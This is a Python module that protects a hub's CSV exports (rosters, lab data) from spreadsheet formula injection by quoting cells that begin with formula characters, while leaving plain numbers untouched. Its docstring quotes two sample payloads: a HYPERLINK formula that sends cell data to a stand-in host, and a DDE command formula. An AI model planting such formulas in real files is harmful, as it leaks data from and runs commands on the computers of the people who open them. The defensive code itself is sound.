"""CSV that is safe to open in a spreadsheet: no cell the hub writes runs as a formula.

Excel, LibreOffice and Google Sheets take a cell that starts with ``=``, ``+``, ``-`` or
``@`` (or a tab or line break in front of one) as a formula. A student named
``=HYPERLINK("http://evil.example/?"&A2, "bấm vào")`` or a note ``=cmd|' /C calc'!A0``
in a roster or lab export would run on the computer of the teacher who opens it (OWASP,
"CSV Injection"). Every CSV writer of the hub goes through :func:`writer`, which puts a
single quote in front of such a cell: the spreadsheet shows the text as it was typed, with
the quote hidden, and runs nothing.

Numbers stay numbers: ``-1.5`` (a water temperature below zero, seconds before a
trigger), ``+3`` and ``-2.5e-3`` are written as they are, since a spreadsheet must compute
with them and a plain number carries no formula.

A cell that starts with a quote gets one more, so :func:`restore` gives back exactly the
value that was written; readers of the hub's own files (OneRoster bundles, MQTT
credentials) use it. A file written by someone else that already protects its cells this
way reads back the same.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

# The fullwidth forms count too: some spreadsheets in East Asian locales read them as = + - @.
FORMULA_STARTS = frozenset("=+-@\t\r\n'\uff1d\uff0b\uff0d\uff20")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


class _TextStream(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise(value: object) -> str:
    """``value`` as a CSV cell a spreadsheet shows as text (None: an empty cell)."""
    text = "" if value is None else str(value)
    if text[:1] in FORMULA_STARTS and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def restore(cell: str) -> str:
    """The value :func:`neutralise` was given for ``cell``."""
    if cell[:1] == "'" and cell[1:2] in FORMULA_STARTS:
        return cell[1:]
    return cell


class SpreadsheetWriter:
    """``csv.writer`` whose every cell goes through :func:`neutralise`."""

    def __init__(self, stream: _TextStream, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: _TextStream, **options: Any) -> SpreadsheetWriter:
    """The CSV writer for every file the hub writes (same options as ``csv.writer``)."""
    return SpreadsheetWriter(stream, **options)
